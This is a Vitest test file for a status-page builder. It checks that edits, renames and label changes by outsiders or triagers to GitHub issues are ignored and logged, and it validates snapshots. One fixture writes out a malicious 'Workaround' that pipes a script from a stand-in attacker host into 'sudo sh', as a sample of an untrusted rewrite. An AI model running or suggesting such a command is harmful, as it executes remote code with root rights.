/**
 * Issue #10 items 1, 2, 4 and 8: only trusted people decide what the page says, and the snapshot
 * as a whole is checked. Rules as tables, through the whole pure model (buildSiteModel).
 */
import { describe, expect, test } from 'vitest';
import { InputError } from '../../src/lib/errors.ts';
import type { IssueRecord } from '../../src/lib/schema/snapshot.ts';
import { SnapshotSchema } from '../../src/lib/schema/snapshot.ts';
import { buildSiteModel } from '../../src/lib/site-model.ts';
import { checkSnapshotRepository } from '../../src/lib/snapshot-checks.ts';
import { comment, config, event, formBody, issue, maintainer, outsider, snapshot } from '../support/records.ts';

const NOW = new Date('2026-11-21T12:00:00Z');
const T0 = '2026-11-20T10:00:00.000Z';
const t = (minutes: number): string => new Date(Date.parse(T0) + minutes * 60_000).toISOString();
const triager = () => outsider('triage-tom');

const model = (issues: unknown[], overrides: { takenAt?: string } = {}) =>
  buildSiteModel({ config: config(), snapshot: SnapshotSchema.parse(snapshot(issues, overrides)), postmortemFiles: [], now: NOW, demo: false });
const only = (record: IssueRecord) => model([record]).incidents[0];

const ADOPTED_BODY = formBody({ Severity: 'P2', 'What is broken': 'Search is slow.' });
const REWRITTEN_BODY = formBody({ Severity: 'P0', 'What is broken': 'Everything.', Workaround: 'curl https://evil.example/fix.sh | sudo sh' });

/** An outsider's report, adopted by a maintainer at t(5). */
const adopted = (overrides: Partial<IssueRecord> = {}): IssueRecord =>
  issue({
    number: 7,
    title: 'Search is slow',
    author: outsider('olly'),
    body: ADOPTED_BODY,
    createdAt: T0,
    ...overrides,
    events: [event('labeled', t(5), { label: 'incident' }), ...(overrides.events ?? [])],
  });
const renamed = (at: string, from: string, to: string, actor = outsider('olly')) => event('renamed', at, { actor, rename: { from, to } });

describe('an adopted report stays as a maintainer saw it (item 1)', () => {
  test.each([
    { name: 'nothing changed', record: adopted(), title: 'Search is slow', unconfirmed: [] },
    {
      name: 'the outsider renames it after adoption',
      record: adopted({ title: 'PWNED', events: [renamed(t(10), 'Search is slow', 'PWNED')] }),
      title: 'Search is slow',
      unconfirmed: ['title'],
    },
    {
      name: 'the outsider renamed it before adoption (the maintainer saw it)',
      record: adopted({ title: 'Search is very slow', events: [renamed(t(2), 'Search is slow', 'Search is very slow')] }),
      title: 'Search is very slow',
      unconfirmed: [],
    },
    {
      name: 'a maintainer renames it',
      record: adopted({ title: 'Search down', events: [renamed(t(10), 'Search is slow', 'Search down', maintainer())] }),
      title: 'Search down',
      unconfirmed: [],
    },
    {
      name: 'the outsider renames a maintainer-renamed title',
      record: adopted({
        title: 'PWNED',
        events: [renamed(t(10), 'Search is slow', 'Search down', maintainer()), renamed(t(20), 'Search down', 'PWNED')],
      }),
      title: 'Search down',
      unconfirmed: ['title'],
    },
    {
      name: 'a maintainer re-applies the label after the rename: confirmed',
      record: adopted({
        title: 'Search is slow (EU only)',
        events: [
          renamed(t(10), 'Search is slow', 'Search is slow (EU only)'),
          event('unlabeled', t(11), { label: 'incident' }),
          event('labeled', t(12), { label: 'incident' }),
        ],
      }),
      title: 'Search is slow (EU only)',
      unconfirmed: [],
    },
  ])('title: $name', ({ record, title, unconfirmed }) => {
    expect(only(record)).toMatchObject({ title, unconfirmed });
  });

  const rewrite = (at: string, editor = outsider('olly')) => ({ editedAt: at, editor, body: REWRITTEN_BODY });
  const original = { editedAt: T0, editor: outsider('olly'), body: ADOPTED_BODY };
  test.each([
    { name: 'the outsider rewrites the body after adoption', edits: [original, rewrite(t(10))], shown: 'adopted', unconfirmed: ['description'] },
    { name: 'the outsider rewrote it before adoption', edits: [original, rewrite(t(3))], shown: 'rewritten', unconfirmed: [] },
    { name: 'a maintainer rewrites it', edits: [original, rewrite(t(10), maintainer())], shown: 'rewritten', unconfirmed: [] },
    { name: 'history without the original, edited after adoption', edits: [rewrite(t(10))], shown: 'nothing', unconfirmed: ['description'] },
  ])('body: $name', ({ edits, shown, unconfirmed }) => {
    const incident = only(adopted({ body: REWRITTEN_BODY, bodyEdits: edits }));
    expect(incident?.unconfirmed).toEqual(unconfirmed);
    const text = JSON.stringify(incident?.scope);
    expect(text.includes('sudo sh')).toBe(shown === 'rewritten');
    expect(text.includes('Search is slow.')).toBe(shown === 'adopted');
    expect(incident?.severity).toBe(shown === 'rewritten' ? 'P0' : 'P2');
  });

  test('closes and reopens by the outsider are not applied', () => {
    const closedByOutsider = adopted({
      state: 'closed',
      stateReason: 'not_planned',
      closedAt: t(30),
      events: [event('closed', t(30), { actor: outsider('olly'), stateReason: 'not_planned' })],
    });
    expect(only(closedByOutsider)).toMatchObject({ status: 'investigating', active: true, withdrawn: false, unconfirmed: ['state'] });

    const reopenedByOutsider = adopted({
      state: 'open',
      stateReason: 'reopened',
      events: [event('closed', t(30), { stateReason: 'completed' }), event('reopened', t(40), { actor: outsider('olly') })],
    });
    expect(only(reopenedByOutsider)).toMatchObject({ status: 'resolved', active: false, resolvedAt: t(30), unconfirmed: ['state'] });
  });

  test('every ignored change is in the build log, naming who made it', () => {
    const m = model([adopted({ title: 'PWNED', events: [renamed(t(10), 'Search is slow', 'PWNED')] })]);
    expect(m.notices).toContainEqual({ where: 'issue #7', message: 'renamed by olly, who is not a maintainer: ignored' });
  });
});

describe('triage is not trust (item 2)', () => {
  /** A maintainer's P2 incident on the CLI, labelled when opened. */
  const base = (events: IssueRecord['events'] = [], overrides: Partial<IssueRecord> = {}): IssueRecord =>
    issue({
      number: 3,
      createdAt: T0,
      labels: ['incident', 'P2', 'component:cli'],
      ...overrides,
      events: [event('labeled', T0, { label: 'incident' }), event('labeled', T0, { label: 'P2' }), event('labeled', T0, { label: 'component:cli' }), ...events],
    });

  test.each([
    {
      name: 'a triager raises it to P0',
      record: base([event('labeled', t(5), { label: 'P0', actor: triager() })], { labels: ['incident', 'P2', 'P0', 'component:cli'] }),
      severity: 'P2',
    },
    {
      name: 'a maintainer raises it to P0',
      record: base([event('labeled', t(5), { label: 'P0' })], { labels: ['incident', 'P2', 'P0', 'component:cli'] }),
      severity: 'P0',
    },
    {
      name: 'a triager removes the severity label',
      record: base([event('unlabeled', t(5), { label: 'P2', actor: triager() })], { labels: ['incident', 'component:cli'] }),
      severity: 'P2',
    },
  ])('severity: $name → $severity', ({ record, severity }) => {
    expect(only(record)?.severity).toBe(severity);
  });

  test.each([
    {
      name: 'a triager adds a component',
      events: [event('labeled', t(5), { label: 'component:docs', actor: triager() })],
      labels: ['component:docs'],
      components: ['cli'],
    },
    {
      name: 'a triager removes the component',
      events: [event('unlabeled', t(5), { label: 'component:cli', actor: triager() })],
      labels: [],
      components: ['cli'],
    },
    {
      name: 'a maintainer adds a component',
      events: [event('labeled', t(5), { label: 'component:docs' })],
      labels: ['component:cli', 'component:docs'],
      components: ['cli', 'docs'],
    },
  ])('components: $name', ({ events, labels, components }) => {
    expect(only(base(events, { labels: ['incident', 'P2', ...labels] }))?.components).toEqual(components);
  });

  test.each([
    { name: 'a triager sets "identified"', events: [event('labeled', t(5), { label: 'identified', actor: triager() })], status: 'investigating' },
    { name: 'a maintainer sets "identified"', events: [event('labeled', t(5), { label: 'identified' })], status: 'identified' },
    { name: 'a triager closes it', events: [event('closed', t(5), { actor: triager(), stateReason: 'completed' })], status: 'investigating' },
    { name: 'a triager withdraws it', events: [event('closed', t(5), { actor: triager(), stateReason: 'not_planned' })], status: 'investigating' },
  ])('status: $name → $status', ({ events, status }) => {
    const closing = events.find((e) => e.type === 'closed');
    const state = closing ? { state: 'closed' as const, stateReason: closing.stateReason ?? null, closedAt: closing.createdAt } : {};
    const labels = events.some((e) => e.label === 'identified') ? ['incident', 'P2', 'component:cli', 'identified'] : undefined;
    expect(only(base(events, { ...state, ...(labels ? { labels } : {}) }))?.status).toBe(status);
  });

  test.each([
    { name: 'a triager names a commander', events: [event('assigned', t(5), { assignee: 'tom', actor: triager() })], assignees: ['tom'], commander: null },
    { name: 'a maintainer names a commander', events: [event('assigned', t(5), { assignee: 'mia' })], assignees: ['mia'], commander: 'mia' },
    {
      name: 'a triager replaces the commander',
      events: [
        event('assigned', t(5), { assignee: 'mia' }),
        event('unassigned', t(6), { assignee: 'mia', actor: triager() }),
        event('assigned', t(6), { assignee: 'tom', actor: triager() }),
      ],
      assignees: ['tom'],
      commander: 'mia',
    },
    { name: "an assignee with no event on a maintainer's issue", events: [], assignees: ['mia'], commander: 'mia' },
  ])('commander: $name → $commander', ({ events, assignees, commander }) => {
    expect(only(base(events, { assignees }))?.commander).toBe(commander);
  });

  test('a status label with no event, on an outsider-adopted issue, is not trusted (the fallback)', () => {
    const record = adopted({ labels: ['incident', 'monitoring'] });
    expect(only(record)?.status).toBe('investigating');
  });

  test.each([
    {
      name: 'a triager lifts the embargo',
      events: [event('labeled', t(1), { label: 'embargoed' }), event('unlabeled', t(5), { label: 'embargoed', actor: triager() })],
      labels: [],
      published: false,
    },
    {
      name: 'a maintainer lifts the embargo',
      events: [event('labeled', t(1), { label: 'embargoed' }), event('unlabeled', t(5), { label: 'embargoed' })],
      labels: [],
      published: true,
    },
    {
      name: 'a triager embargoes it (hiding it)',
      events: [event('labeled', t(5), { label: 'embargoed', actor: triager() })],
      labels: ['embargoed'],
      published: true,
    },
  ])('embargo: $name → published $published', ({ events, labels, published }) => {
    const m = model([base(events, { labels: ['incident', 'P2', 'component:cli', ...labels] })]);
    expect(m.incidents.map((i) => i.number)).toEqual(published ? [3] : []);
  });

  // The kind label itself: its removal by someone not trusted does not take the report off the page.
  test.each([
    {
      name: 'a triager removes "incident"',
      record: base([event('unlabeled', t(5), { label: 'incident', actor: triager() })], { labels: ['P2', 'component:cli'] }),
      incidents: [3],
      unconfirmed: ['labels'],
      notice: 'label "incident" removed by triage-tom, who is not a maintainer: ignored',
    },
    {
      name: 'the outsider removes "incident" from their adopted report',
      record: adopted({ labels: [], events: [event('unlabeled', t(10), { label: 'incident', actor: outsider('olly') })] }),
      incidents: [7],
      unconfirmed: ['labels'],
      notice: 'label "incident" removed by olly, who is not a maintainer: ignored',
    },
    {
      name: 'a maintainer removes "incident"',
      record: base([event('unlabeled', t(5), { label: 'incident' })], { labels: ['P2', 'component:cli'] }),
      incidents: [],
      unconfirmed: [],
      notice: null,
    },
    {
      name: 'a triager removes it, then a maintainer re-applies it (confirmed)',
      record: base([event('unlabeled', t(5), { label: 'incident', actor: triager() }), event('labeled', t(6), { label: 'incident' })]),
      incidents: [3],
      unconfirmed: [],
      notice: 'label "incident" removed by triage-tom, who is not a maintainer: ignored',
    },
    {
      name: 'the outsider removes "incident" from a report nobody adopted',
      record: issue({
        number: 9,
        author: outsider('olly'),
        labels: [],
        events: [
          event('labeled', T0, { label: 'incident', actor: outsider('olly') }),
          event('unlabeled', t(5), { label: 'incident', actor: outsider('olly') }),
        ],
      }),
      incidents: [],
      unconfirmed: [],
      notice: null,
    },
  ])('kind label: $name → published $incidents', ({ record, incidents, unconfirmed, notice }) => {
    const m = model([record]);
    expect(m.incidents.map((i) => i.number)).toEqual(incidents);
    expect(m.incidents[0]?.unconfirmed ?? []).toEqual(unconfirmed);
    if (notice) expect(m.notices).toContainEqual({ where: `issue #${record.number}`, message: notice });
    else expect(m.notices.filter((n) => n.message.includes('"incident" removed'))).toEqual([]);
  });

  test('a triager removing "maintenance" leaves the maintenance on the page', () => {
    const record = issue({
      number: 4,
      labels: [],
      body: formBody({ 'Window start (UTC)': '2026-11-22 10:00', 'Window end (UTC)': '2026-11-22 11:00' }),
      events: [event('labeled', T0, { label: 'maintenance' }), event('unlabeled', t(5), { label: 'maintenance', actor: triager() })],
    });
    expect(model([record]).maintenances.map((m) => m.number)).toEqual([4]);
    expect(
      model([{ ...record, events: [event('labeled', T0, { label: 'maintenance' }), event('unlabeled', t(5), { label: 'maintenance' })] }]).maintenances,
    ).toEqual([]);
  });

  test('the untrusted change is reported in the build log', () => {
    const m = model([base([event('labeled', t(5), { label: 'P0', actor: triager() })], { labels: ['incident', 'P2', 'P0', 'component:cli'] })]);
    expect(m.notices).toContainEqual({ where: 'issue #3', message: 'label "P0" added by triage-tom, who is not a maintainer: ignored' });
    expect(m.overall.status).toBe('degraded_performance');
  });
});

describe("sitrep's own comment is not an acknowledgement (item 4)", () => {
  const own = comment({ at: t(1), author: maintainer('release-bot'), body: '<!-- sitrep:status-link -->\nFollow this incident on the status page.' });
  test.each([
    { name: 'only sitrep commented', comments: [own], acknowledgedAt: null },
    { name: 'a maintainer answered after sitrep', comments: [own, comment({ at: t(9), body: 'Looking into it.' })], acknowledgedAt: t(9) },
  ])('$name', ({ comments, acknowledgedAt }) => {
    // An outsider's report a maintainer labelled: a maintainer's own incident is acknowledged at opening.
    const report = issue({ number: 4, createdAt: T0, comments, author: outsider('reporter'), events: [event('labeled', T0, { label: 'incident' })] });
    expect(only(report)?.acknowledgedAt).toBe(acknowledgedAt);
  });
});

describe('the snapshot as a whole (item 8)', () => {
  test.each([
    { takenAt: '2026-11-21T11:58:00Z', stale: false, futureData: false },
    { takenAt: '2026-11-21T12:03:00Z', stale: false, futureData: false },
    { takenAt: '2026-11-21T12:30:00Z', stale: true, futureData: true },
    { takenAt: '2099-01-01T00:00:00Z', stale: true, futureData: true },
  ])('taken at $takenAt (built 12:00) → stale $stale', ({ takenAt, stale, futureData }) => {
    const m = model([], { takenAt });
    expect(m).toMatchObject({ stale, futureData });
    expect(m.notices.some((n) => n.where === 'snapshot' && n.message.includes('after the build time'))).toBe(futureData);
  });

  test('duplicate issue numbers are reported and the page says it may be incomplete', () => {
    const older = issue({ number: 5, title: 'Old copy', updatedAt: t(1) });
    const newer = issue({ number: 5, title: 'New copy', updatedAt: t(9) });
    const m = model([older, newer]);
    expect(m.incidents.map((i) => i.title)).toEqual(['New copy']);
    expect(m.skipped).toEqual([{ where: 'issue #5', message: expect.stringContaining('two records for the same issue') }]);
    expect(m.overall.incomplete).toBe(true);
  });

  test.each([
    { snapshotRepo: 'acme/widgets', repo: 'acme/widgets', refused: false },
    { snapshotRepo: 'Acme/Widgets', repo: 'acme/widgets', refused: false },
    { snapshotRepo: 'evil/other', repo: 'acme/widgets', refused: true },
    { snapshotRepo: '', repo: 'acme/widgets', refused: true },
  ])('a snapshot of "$snapshotRepo" for a site of $repo → refused $refused', ({ snapshotRepo, repo, refused }) => {
    const check = () => checkSnapshotRepository(snapshotRepo, repo, 'content/snapshot.json');
    if (refused) expect(check).toThrow(InputError);
    else expect(check).not.toThrow();
  });
});
